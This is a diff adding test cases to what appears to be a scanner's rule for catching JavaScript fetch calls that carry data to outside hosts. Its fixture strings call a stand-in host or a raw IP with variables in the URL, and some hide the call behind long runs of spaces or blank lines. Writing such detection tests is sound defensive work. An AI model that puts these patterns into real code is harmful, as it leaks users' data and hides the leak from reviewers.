@@ -18,6 +18,9 @@ CASES: Final = (
     Case("C10", "evasion", "medium", "fetch(`http://93.184.216.34/${Date.now()}`)\n", "demo/work.js"),
     Case("C10", "evasion", "low", "fetch(`https://c.example.invalid/${a}/x`)\n", "demo/work.js"),
     Case("C10", "twin", None, "const a = `<a>${x}</a>`; fetch(u); f(`${a}/${b}`)\n", "demo/work.js"),
+    Case("C10", "hit", "low", "const U = 'https://c.example.invalid/';\nfetch(U + a);\n", "demo/work.js"),
+    Case("C10", "twin", None, f"fetch(u);{' ' * 1000}a('https://c.example.invalid/')\n", "demo/work.js"),
+    Case("C10", "twin", None, "fetch(u);\n\n\n\na('https://c.example.invalid/')\n", "demo/work.js"),
     Case("C10", "twin", None, f"{_OPEN}'''See https://c.example.invalid.'''\ndef f(v):\n    urlopen(v)\n"),
     Case(
         "C10",
